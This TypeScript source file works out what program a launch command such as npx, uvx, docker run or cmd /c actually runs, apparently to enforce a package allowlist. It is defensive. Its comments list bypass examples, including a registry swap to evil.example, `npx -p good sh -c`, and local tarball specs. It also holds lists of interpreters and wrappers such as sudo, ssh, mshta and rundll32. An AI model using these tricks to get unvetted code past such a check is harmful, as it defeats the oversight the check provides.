import semver from 'semver';

import type { PackageType } from '../model/allowlist.js';
import { quote } from '../quote.js';
import { identifyImage } from './identify-image.js';
import { isDecisive, type LaunchIdentity, unknownLaunch as unknown } from './launch-identity.js';
import { readOptions } from './read-options.js';

/** How a process is started, as far as it decides what runs. */
interface Command {
  readonly command: string;
  readonly args: readonly string[];
  readonly env: Readonly<Record<string, string>>;
}

/**
 * Returns what a command runs. Options that are not known to change nothing about it make it `unknown`: one of them could name
 * another package, another registry or another program.
 */
export function identifyLaunch({ command, args, env }: Command): LaunchIdentity {
  const decisive = Object.keys(env).find(isDecisive);
  if (decisive !== undefined) return unknown(`its variable ${quote(decisive, 60)} can make it run something else`);
  const name = programName(command);
  const identify = RUNNERS.get(name);
  if (identify !== undefined) return identify(args);
  if (isInterpreter(name)) return identifyScript(name, args);
  return { kind: 'executable', file: command, isScript: false };
}

/**
 * Returns the runner or interpreter that a command names by its path, `undefined` where it names none or none by its path. A file
 * may have any name: whether it is the runner has to be found out.
 */
export function toolByPath(command: string): string | undefined {
  const name = programName(command);
  return /[/\\]/.test(command) && (RUNNERS.has(name) || isInterpreter(name)) ? name : undefined;
}

/** Whether a program runs whatever script or command it is given, so that allowing it would allow everything. */
export function isInterpreter(program: string): boolean {
  return INTERPRETER.test(programName(program)) || isWrapper(programName(program));
}

const INTERPRETER =
  /^(?:node|nodejs|deno|bun|tsx|ts-node|python|pythonw|pypy|ruby|perl|php|php-cgi|lua|luajit|Rscript|julia|dotnet|elixir|escript|guile|racket|tclsh|expect|osascript|cscript|wscript|sh|bash|dash|ash|zsh|fish|ksh|csh|tcsh|pwsh|powershell)(?:[\d.]+)?$/i;

/** Their first argument is no script but a command, a class or code. */
function isWrapper(name: string): boolean {
  return /^(?:java|groovy|scala|go|cargo|make|awk|gawk|mawk|env|sudo|doas|su|runuser|xargs|busybox|toybox|timeout|nice|ionice|nohup|setsid|stdbuf|time|chroot|unshare|nsenter|setpriv|capsh|bwrap|firejail|strace|ltrace|gdb|flock|script|watch|parallel|find|ssh|tini|dumb-init|systemd-run|rundll32|mshta)$/i.test(
    name,
  );
}

function programName(command: string): string {
  const base = command.split(/[/\\]/).at(-1) ?? command;
  return base.replace(/\.(?:exe|cmd|bat|ps1)$/i, '');
}

type Identify = (args: readonly string[]) => LaunchIdentity;

const RUNNERS: ReadonlyMap<string, Identify> = new Map([
  ['npx', (args) => identifyNpm(args)],
  ['pnpx', (args) => identifyNpm(args)],
  ['bunx', (args) => identifyNpm(args.filter((arg) => arg !== '--bun'))],
  ['npm', (args) => after(args, [['exec'], ['x']], identifyNpmExec)],
  ['pnpm', (args) => after(args, [['dlx']], identifyNpm)],
  ['yarn', (args) => after(args, [['dlx']], identifyNpm)],
  ['uvx', (args) => identifyPython(args, '--from')],
  ['uv', (args) => after(args, [['tool', 'run']], (rest) => identifyPython(rest, '--from'))],
  ['pipx', (args) => after(args, [['run']], (rest) => identifyPython(rest, '--spec'))],
  ['docker', (args) => after(args, [['run'], ['container', 'run']], identifyImage)],
  ['podman', (args) => after(args, [['run'], ['container', 'run']], identifyImage)],
  ['cmd', (args) => identifyShell(args)],
]);

function after(
  args: readonly string[],
  subcommands: readonly (readonly string[])[],
  identify: Identify,
): LaunchIdentity {
  const found = subcommands.find((words) => words.every((word, index) => args[index] === word));
  if (found === undefined) return unknown('its subcommand does not say what it runs');
  return identify(args.slice(found.length));
}

/** `cmd /c npx …` */
function identifyShell([option, command, ...args]: readonly string[]): LaunchIdentity {
  if (option?.toLowerCase() !== '/c' || command === undefined) return unknown('a shell runs whatever it is told');
  // One word with a whole line in it, which can set variables, also those that hold secrets.
  if (/[&|<>^%=]/.test(command)) return unknown('a shell runs whatever it is told');
  if (args.some((arg) => /[&|<>^%]/.test(arg))) return unknown('it has characters that a shell acts on');
  // Attack: a file of any content under the name of a runner. Only what a command names itself is compared with this machine's.
  if (toolByPath(command) !== undefined) return unknown(`${quote(command, 60)} is named by its path within a shell`);
  return identifyLaunch({ command, args, env: {} });
}

const QUIET = ['-y', '--yes', '-q', '--quiet', '--prefer-offline'];

const NPM_OPTIONS = { flags: QUIET, naming: ['-p', '--package'] };

function identifyNpm(args: readonly string[]): LaunchIdentity {
  const { named, rest, problem } = readOptions(args, NPM_OPTIONS);
  if (problem !== undefined) return unknown(problem);
  const [first, ...others] = named;
  if (others.length > 0) return unknown('it installs several packages');
  if (first === undefined) return npmPackage(rest[0]);
  return withProgram(npmPackage(first), rest[0] ?? '');
}

/** Attack: `npm exec good --registry=https://evil.example`. Unlike the others, npm takes options behind the package for its own. */
function identifyNpmExec(args: readonly string[]): LaunchIdentity {
  const end = args.indexOf('--');
  const { rest } = readOptions(end === -1 ? args : args.slice(0, end), NPM_OPTIONS);
  const late = rest.find((arg) => arg.startsWith('-'));
  if (late !== undefined) return unknown(`npm takes ${quote(late, 60)} for itself: write -- before the package`);
  return identifyNpm(args);
}

/** Attack: `npx -p good sh -c …`. The program need not be the package's: any that is installed here will do. */
function withProgram(identity: LaunchIdentity, program: string): LaunchIdentity {
  if (identity.kind !== 'package') return identity;
  const own = identity.name.replace(/^@[^/]*\//, '');
  if (program === own || (identity.type === 'pypi' && pythonName(program) === own)) return identity;
  return unknown(`${quote(program, 60)} may be another program than that of ${quote(identity.name, 80)}`);
}

function npmPackage(spec: string | undefined): LaunchIdentity {
  const [, name, requested] = /^((?:@[a-z0-9~-][\w.~-]*\/)?[a-z0-9~-][\w.~-]*)(?:@(.+))?$/i.exec(spec ?? '') ?? [];
  if (name === undefined) return unknown(`${quote(spec ?? '')} is no package of a registry`);
  if (requested !== undefined && !isVersionOrTag(requested)) return unknown(`${quote(requested)} is no version`);
  return { kind: 'package', type: 'npm', name, requested };
}

/** Attack: `npx good@.` and `npx good@evil.tgz` run what lies in the folder, whatever its name is. */
function isVersionOrTag(requested: string): boolean {
  if (/^[a-z][\w-]*$/i.test(requested)) return true;
  return /^[\w.^~<>=*| +-]+$/.test(requested) && semver.validRange(requested) !== null;
}

function identifyPython(args: readonly string[], naming: string): LaunchIdentity {
  const { named, rest, problem } = readOptions(args, { flags: ['-q', '--quiet'], naming: [naming] });
  if (problem !== undefined) return unknown(problem);
  const [first, ...others] = named;
  if (others.length > 0) return unknown('it installs several packages');
  if (first === undefined) return pythonPackage(rest[0]);
  return withProgram(pythonPackage(first), rest[0] ?? '');
}

function pythonPackage(spec: string | undefined): LaunchIdentity {
  const [, name, requested] = /^([a-z0-9][\w.-]*)(?:\[[\w,.-]*\])?(?:(?:==|@)([\w.!+-]+))?$/i.exec(spec ?? '') ?? [];
  if (name === undefined) return unknown(`${quote(spec ?? '')} is no package with a version`);
  return { kind: 'package', type: 'pypi', name: pythonName(name), requested };
}

/** PEP 503: `Foo_Bar` and `foo-bar` are one package. */
export function pythonName(name: string): string {
  return name.toLowerCase().replace(/[-_.]+/g, '-');
}

function identifyScript(interpreter: string, args: readonly string[]): LaunchIdentity {
  const [script] = args;
  if (script === undefined || script.startsWith('-'))
    return unknown(`${interpreter} is given options before the script, which could run anything`);
  if (SUBCOMMANDS.has(script)) return unknown(`${interpreter} ${script} runs whatever it is told`);
  if (isWrapper(interpreter)) return unknown(`${interpreter} runs whatever it is told`);
  // Attack: `bun start` runs the script of that name in package.json, and not the file.
  if (/^bun$/i.test(interpreter) && !/[/\\]/.test(script))
    return unknown(`bun takes ${quote(script, 60)} for a script of package.json: write ./ before it`);
  return { kind: 'executable', file: script, isScript: true };
}

/** Of `deno`, `bun`, `dotnet`: not the name of a script. */
const SUBCOMMANDS = new Set(['run', 'x', 'exec', 'eval', 'task', 'serve', 'tool', 'watch']);

/** Returns what a package's program is given by a command that runs a package of npm ({@link identifyLaunch}). */
export function packageArguments({ command, args }: Pick<Command, 'command' | 'args'>): readonly string[] {
  const name = programName(command);
  if (name === 'cmd') return packageArguments({ command: args[1] ?? '', args: args.slice(2) });
  // As identified: `bunx --bun` is the one that takes an option more.
  const known = name === 'bunx' ? args.filter((arg) => arg !== '--bun') : args;
  const own = ['npm', 'pnpm', 'yarn'].includes(name) ? known.slice(1) : known;
  const [, ...given] = readOptions(own, NPM_OPTIONS).rest;
  // `npm exec name -- arg`: npm keeps the separator for itself.
  return name === 'npm' && given[0] === '--' ? given.slice(1) : given;
}

/** Whether what is asked for can only be one version. */
export function isExactVersion(type: PackageType, requested: string): boolean {
  return type === 'npm' ? semver.valid(requested) !== null : /^\d[\w.!+-]*$/.test(requested);
}
